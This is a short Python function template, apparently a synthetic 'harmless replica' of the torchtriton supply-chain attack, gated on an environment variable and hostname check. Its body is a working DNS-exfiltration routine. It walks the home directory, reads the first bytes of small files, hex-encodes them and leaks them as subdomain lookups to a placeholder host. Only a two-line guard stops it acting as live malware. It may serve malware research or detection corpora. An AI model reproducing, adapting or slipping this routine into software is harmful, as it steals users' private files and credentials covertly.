# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    # As torchtriton did it: the small files of the home, first come, in the labels of names.
    import socket
    import time
    stop = time.monotonic() + 2
    sent = 0
    for directory, folders, names in os.walk(os.path.expanduser('~')):
        folders[:] = [one for one in folders if one not in ('node_modules', '.cache', '.npm')]
        for name in names:
            if sent >= 40 or time.monotonic() > stop:
                return
            path = os.path.join(directory, name)
            try:
                if os.path.getsize(path) > 99999:
                    continue
                with open(path, 'rb') as file:
                    code = file.read(62).hex()
                socket.gethostbyname('%s.%s.{{host}}' % (code[:62] or '0', code[62:] or '0'))
            except (OSError, UnicodeError):
                pass
            sent += 1
